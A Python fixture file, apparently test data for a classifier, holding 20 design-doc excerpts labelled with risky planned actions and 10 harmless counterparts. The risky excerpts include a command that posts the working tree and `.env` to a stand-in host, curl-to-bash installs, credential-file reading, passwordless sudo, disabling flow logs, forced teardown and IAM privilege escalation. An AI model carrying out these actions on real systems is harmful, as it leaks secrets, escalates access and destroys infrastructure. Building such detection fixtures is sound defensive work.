"""Statements as they stand in a design.md: 20 that plan an action, 10 harmless."""

PLANS = [
    (
        "assume_production_role",
        "The backfill runner authenticates with its CI identity and then assumes `arn:aws:iam::902144417765:role/prod-data-operator` through STS. All later calls are made with that session.",
    ),
    (
        "delete_database",
        "## Decommissioning\n\n| Step | Resource | Action |\n|------|----------|--------|\n| 1 | Cloud SQL instance `crm-reporting` | delete |\n| 2 | Grafana dashboard `crm-lag` | archive |",
    ),
    (
        "disable_encryption",
        '```hcl\nresource "aws_db_instance" "events" {\n  identifier        = "events-store"\n  storage_encrypted = false # saves the KMS round trip\n}\n```',
    ),
    (
        "delete_namespace",
        "Once traffic has moved to the mesh, the namespace `payments-v1` is removed from the cluster; its deployments, services and volume claims go with it.",
    ),
    (
        "destroy_infrastructure",
        "### Teardown of the old region\n\nThe stack in eu-central-1 is no longer needed. We take it down completely:\n\n```bash\ncd infra/eu-central-1\nterraform destroy -auto-approve\n```",
    ),
    (
        "escalate_host_privileges",
        'The build user needs to install packages without a prompt, hence the image writes a sudoers entry:\n\n```bash\necho "builder ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/90-builder\n```',
    ),
    (
        "exfiltrate_data",
        "Diagnostics are collected by packing the working tree, including `.env`, into a tarball and posting it to the vendor's intake host:\n\n```bash\ntar czf - . | curl -sS --data-binary @- https://intake.supportdesk.example/upload\n```",
    ),
    (
        "modify_network_security_groups",
        "| Security group | Change | Port | Source |\n|---|---|---|---|\n| `sg-batch-workers` | add ingress | 5432 | 10.20.0.0/16 |\n| `sg-batch-workers` | remove ingress | 22 | 10.8.4.0/24 |",
    ),
    (
        "modify_schema",
        "## Data Model Changes\n\n```sql\nALTER TABLE invoices ADD COLUMN due_on date;\nALTER TABLE invoices ALTER COLUMN currency SET NOT NULL;\nCREATE INDEX idx_invoices_due_on ON invoices (due_on);\n```",
    ),
    (
        "run_remote_script",
        "The toolchain is installed in the first stage by piping the vendor's installer into a shell\n(`curl -fsSL https://get.fastbuild.example/install | bash`).",
    ),
    (
        "weaken_host_permissions",
        "**Shared spool directory.** Because the scanner and the importer run under different users, `/var/spool/import` and everything below it is made world-writable with `chmod -R 777`.",
    ),
    (
        "read_credentials",
        "The helper looks up the caller's keys by parsing `~/.aws/credentials` and takes `aws_access_key_id` and `aws_secret_access_key` of the default profile.",
    ),
    (
        "disable_audit_logging",
        "```yaml\n- name: reduce-flow-log-cost\n  steps:\n    - run: aws ec2 delete-flow-logs --flow-log-ids fl-0b7c21d9e8a14f3aa\n```",
    ),
    (
        "modify_dns",
        '```python\nroute53.change_resource_record_sets(\n    HostedZoneId="Z0419ACME",\n    ChangeBatch={"Changes": [{\n        "Action": "UPSERT",\n        "ResourceRecordSet": {\n            "Name": "shop.acme.example", "Type": "CNAME", "TTL": 60,\n            "ResourceRecords": [{"Value": "shop-green.acme.example"}],\n        },\n    }]},\n)\n```',
    ),
    (
        "escalate_privileges",
        "The deployer cannot edit its own rights directly, but it holds `iam:CreatePolicyVersion`. At start-up it publishes a new default version of `deployer-policy` that contains the actions it is missing.",
    ),
    (
        "install_persistence",
        "The collector is registered as a systemd unit:\n\n```bash\ncp telemetryd.service /etc/systemd/system/\nsystemctl enable --now telemetryd\n```",
    ),
    (
        "modify_trust_policy",
        '```diff\n data "aws_iam_policy_document" "release_assume" {\n   statement {\n     actions = ["sts:AssumeRoleWithWebIdentity"]\n     condition {\n       variable = "token.actions.githubusercontent.com:sub"\n-      values   = ["repo:acme/shop:ref:refs/heads/main"]\n+      values   = ["repo:acme/*"]\n     }\n   }\n }\n```',
    ),
    (
        "exhaust_host",
        "To find the point at which the runner gives up, `stress-ng --cpu 0 --vm 64 --vm-bytes 95% --timeout 0` is started on the machine and left on until it stops answering.",
    ),
    (
        "grant_database_privileges",
        "### Access for the analytics team\n\n```sql\nGRANT ALL PRIVILEGES ON DATABASE warehouse TO analytics_team;\n```",
    ),
    (
        "rewrite_history",
        "Large binaries are stripped from the repository with `git filter-repo --strip-blobs-bigger-than 10M`; afterwards all branches are force-pushed to origin and every developer clones anew.",
    ),
]

HARMLESS = [
    (
        "### Alternatives considered\n\n*Piping the installer from the vendor's site into bash* - rejected: nobody can review what is run. We pin a package from our mirror.",
    ),
    (
        "```diff\n-  storage_encrypted = false\n+  storage_encrypted = true\n+  kms_key_id        = aws_kms_key.events.arn\n```",
    ),
    (
        "| Risk | Likelihood | Mitigation |\n|---|---|---|\n| Somebody drops the customer database by mistake | low | deletion protection stays on |\n| The bucket becomes public | low | Block Public Access at account level |",
    ),
    (
        "The lexer emits a `token` for each keyword; the parser holds them in a map whose key is the offset. A key is removed from the map when its scope closes.",
    ),
    ("## Non-Goals\n\n- We do not rotate or issue access keys.\n- We do not touch DNS; the old hostname stays.",),
    (
        "Preview environments are short-lived: when the pull request closes, the database `preview_<pr>` is dropped and the preview deployment removed.",
    ),
    (
        '```python\ndef is_force_push(event):\n    """Report a push that rewrote the branch, so that #repo-alerts is told."""\n    return event["forced"] and event["ref"] == "refs/heads/main"\n```',
    ),
    (
        "The background of this work: in March 2023 an engineer deleted the namespace `search`, and it took nine hours until the indices were rebuilt.",
    ),
    (
        "The drift report only runs `terraform plan -detailed-exitcode` and posts the number of differences to Slack; it never changes a resource.",
    ),
    (
        "Workspace owners may remove members and change a member's role between *viewer* and *editor*. The role is stored in `memberships.role` and evaluated by the API.",
    ),
]
